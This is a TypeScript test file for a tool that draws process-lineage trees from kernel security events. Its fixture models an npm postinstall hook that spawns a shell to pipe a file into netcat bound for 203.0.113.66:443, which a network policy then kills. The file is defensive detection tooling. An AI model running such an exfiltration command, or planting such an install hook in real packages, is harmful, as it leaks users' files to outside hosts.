// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from "vitest";
import type { EventJson } from "../../packages/cli/src/events/event-json.ts";
import { lineageLines, lineagesOf } from "./lineage.ts";

const plain = (_style: string, words: string): string => words;
const process = (id: string, parent: string, pid: number, binary: string, args = "") => ({
  exec_id: id,
  parent_exec_id: parent,
  pid,
  binary,
  arguments: args,
});
const node = process("n", "demo", 10, "/usr/bin/node", "postinstall.cjs");
const sh = process("s", "n", 11, "/bin/sh", '-c "cat x | nc"');
const cat = process("c", "s", 12, "/bin/cat", "x");
const nc = process("k", "s", 13, "/bin/nc", "203.0.113.66 443");

const attack: readonly EventJson[] = [
  { process_exec: { process: process("other", "demo", 9, "/bin/true") } },
  { process_exec: { process: node } },
  { process_exec: { process: sh } },
  { process_exec: { process: cat } },
  { process_exec: { process: nc } },
  { process_exit: { process: cat } },
  {
    process_kprobe: {
      process: nc,
      function_name: "tcp_connect",
      args: [
        {
          sock_arg: {
            protocol: "IPPROTO_TCP",
            daddr: "203.0.113.66",
            dport: 443,
          },
        },
      ],
      policy_name: "net",
      action: "KPROBE_ACTION_SIGKILL",
    },
  },
  { process_exit: { process: nc, signal: "SIGKILL" } },
  { process_exit: { process: sh, status: 137 } },
  { process_exit: { process: node, status: 1 } },
];

describe("lineage", () => {
  it("shows one tree of what a process started and did", () => {
    const lines = lineagesOf(10, attack).flatMap((tree) => lineageLines(tree, plain));
    expect(lines).toEqual([
      "/usr/bin/node postinstall.cjs  exit 1",
      '└─ /bin/sh "-c \\"cat x | nc\\""  exit 137',
      "   ├─ /bin/cat x  exit 0",
      "   └─ /bin/nc 203.0.113.66 443  SIGKILL",
      "         connect tcp -> 203.0.113.66:443 (net) ⛔ killed",
    ]);
  });

  it("follows a program that replaces itself", () => {
    const trees = lineagesOf(10, [
      { process_exec: { process: process("a", "demo", 10, "/bin/sh") } },
      { process_exec: { process: process("b", "a", 10, "/bin/nc") } },
      { process_exit: { process: process("b", "a", 10, "/bin/nc") } },
    ]);
    expect(trees.flatMap((tree) => lineageLines(tree, plain))).toEqual([
      "/bin/sh",
      "└─ /bin/nc  exit 0",
    ]);
  });

  it("knows nothing of a process that no event names", () => {
    expect(lineagesOf(4711, attack)).toEqual([]);
  });
});
